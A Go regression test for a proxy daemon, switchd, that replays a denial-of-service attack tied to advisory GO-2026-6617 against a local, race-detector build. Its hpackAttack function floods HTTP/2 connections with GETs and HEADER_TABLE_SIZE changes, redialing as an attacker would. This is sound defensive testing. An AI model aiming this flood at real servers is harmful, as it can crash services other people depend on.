package daemon

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// TestHPACKTableSizeChangesDoNotCrash is the attack of GO-2026-6617 against
// the real binary: HTTP/2 clients that follow their GETs with SETTINGS
// frames changing HEADER_TABLE_SIZE while the upstream answers with ~1.5 KB
// of ordinary headers. Built with go1.26.8 the process died within seconds
// ("concurrent map read and map write" in the HPACK encoder); switchd must
// answer every request and still be up afterwards.
func TestHPACKTableSizeChangesDoNotCrash(t *testing.T) {
	if testing.Short() {
		t.Skip("attack run")
	}
	big := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h := w.Header()
		h.Set("Content-Security-Policy", "default-src 'self'; script-src 'self' https://cdn.example.com; "+strings.Repeat("img-src 'self' data:; ", 12))
		h.Set("Strict-Transport-Security", "max-age=31536000; includeSubDomains; preload")
		for i := range 8 {
			h.Add("Set-Cookie", fmt.Sprintf("c%d=%s; Path=/; HttpOnly; Secure; SameSite=Lax", i, strings.Repeat("v", 90)))
		}
		_, _ = w.Write([]byte("ok"))
	}))
	t.Cleanup(big.Close)
	green := colourBackend(t, "green")

	dir := t.TempDir()
	https, ctlAddr := freePort(t), freePort(t)
	text := fmt.Sprintf(baseConfig, dir, addrOf(big), addrOf(green))
	text = strings.Replace(text, "[server]\n", fmt.Sprintf("[server]\nhttps_listen = %q\n", https), 1)
	text = strings.Replace(text, "[control]\nlisten = \"127.0.0.1:0\"", fmt.Sprintf("[control]\nlisten = %q", ctlAddr), 1)
	text = withAppHost(text, "app.test") + "\n[tls]\nmode = \"internal\"\n"
	// Built with -race: the race detector sees the unsynchronised encoder
	// on the first overlap, where the runtime's map check needs luck.
	p := startProcWith(t, raceBinary(t), "-config", writeConfig(t, dir, text))
	waitUp(t, "http://"+ctlAddr+"/healthz", p)

	// 3 s of it: the old build died within 1-3 s.
	const conns, perBurst = 4, 40
	until := time.Now().Add(3 * time.Second)
	var wg sync.WaitGroup
	answered := make([]int, conns)
	errs := make([]error, conns)
	var redials atomic.Int64
	for c := range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			// The client's own HPACK decoder sometimes loses track of
			// the table sizes it announced in such a storm
			// (COMPRESSION_ERROR on its side): it dials again, as an
			// attacker would, and the attack goes on.
			for time.Now().Before(until) && errs[c] == nil {
				n, err := hpackAttack(https, until, perBurst)
				answered[c] += n
				var ce http2.ConnectionError
				if errors.As(err, &ce) && http2.ErrCode(ce) == http2.ErrCodeCompression {
					redials.Add(1)
					continue
				}
				errs[c] = err
			}
		}()
	}
	wg.Wait()
	select {
	case <-p.done:
		t.Fatalf("switchd died under the attack:\n%s", tail(p.stderr.String(), 3000))
	default:
	}
	if out := p.stderr.String(); strings.Contains(out, "DATA RACE") {
		t.Fatalf("data race under the attack:\n%s", tail(out, 3000))
	}
	total := 0
	for c := range conns {
		if errs[c] != nil {
			t.Errorf("connection %d: %v", c, errs[c])
		}
		total += answered[c]
	}
	if total < conns*perBurst {
		t.Fatalf("only %d requests answered", total)
	}
	t.Logf("%d requests with HEADER_TABLE_SIZE changes between them answered 200 (%d redials), switchd up", total, redials.Load())
	waitUp(t, "http://"+ctlAddr+"/healthz", p)
}

// hpackAttack speaks raw HTTP/2 on one connection: bursts of GETs, each
// followed by a SETTINGS frame with a new HEADER_TABLE_SIZE, then reads the
// burst's answers, until the time is up. It returns how many requests got
// their response headers (all of them, or an error).
func hpackAttack(addr string, until time.Time, perBurst int) (int, error) {
	raw, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return 0, err
	}
	conn := tls.Client(raw, &tls.Config{ServerName: "app.test", NextProtos: []string{"h2"}, InsecureSkipVerify: true})
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(60 * time.Second))
	if err := conn.Handshake(); err != nil {
		return 0, err
	}
	if p := conn.ConnectionState().NegotiatedProtocol; p != "h2" {
		return 0, fmt.Errorf("ALPN %q, want h2", p)
	}
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return 0, err
	}
	fr := http2.NewFramer(conn, conn)
	dec := hpack.NewDecoder(4096, nil)
	dec.SetAllowedMaxDynamicTableSize(1 << 16) // the largest size this client announces
	fr.ReadMetaHeaders = dec
	if err := fr.WriteSettings(); err != nil {
		return 0, err
	}
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	stream, answered := uint32(1), 0
	sizes := []uint32{0, 4096, 64, 65536, 1}
	for b := 0; time.Now().Before(until); b++ {
		for i := range perBurst {
			hb.Reset()
			for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "app.test"}, {":path", fmt.Sprintf("/?b=%d&i=%d", b, i)}} {
				_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
			}
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
				return answered, err
			}
			stream += 2
			if err := fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: sizes[(b*perBurst+i)%len(sizes)]}); err != nil {
				return answered, err
			}
		}
		for got := 0; got < perBurst; {
			f, err := fr.ReadFrame()
			if err != nil {
				return answered, fmt.Errorf("after %d answers: %w", answered, err)
			}
			switch f := f.(type) {
			case *http2.MetaHeadersFrame:
				if st := f.PseudoValue("status"); st != "" {
					if st != "200" {
						return answered, fmt.Errorf("status %s after %d answers", st, answered)
					}
					got++
					answered++
				}
			case *http2.SettingsFrame:
				if !f.IsAck() {
					_ = fr.WriteSettingsAck()
				}
			case *http2.GoAwayFrame:
				return answered, fmt.Errorf("GOAWAY %v after %d answers", f.ErrCode, answered)
			case *http2.PingFrame:
				if !f.IsAck() {
					_ = fr.WritePing(true, f.Data)
				}
			}
		}
	}
	return answered, nil
}

func tail(s string, n int) string {
	if len(s) > n {
		return s[len(s)-n:]
	}
	return s
}

var raceBin struct {
	once sync.Once
	path string
	err  error
}

// raceBinary is switchd built with the race detector, once per test run.
func raceBinary(t *testing.T) string {
	t.Helper()
	raceBin.once.Do(func() {
		raceBin.path = filepath.Join(filepath.Dir(binPath), "switchd-race")
		out, err := exec.Command("go", "build", "-race", "-o", raceBin.path, "switchd/cmd/switchd").CombinedOutput()
		if err != nil {
			raceBin.err = fmt.Errorf("building switchd -race: %v\n%s", err, out)
		}
	})
	if raceBin.err != nil {
		t.Fatal(raceBin.err)
	}
	return raceBin.path
}
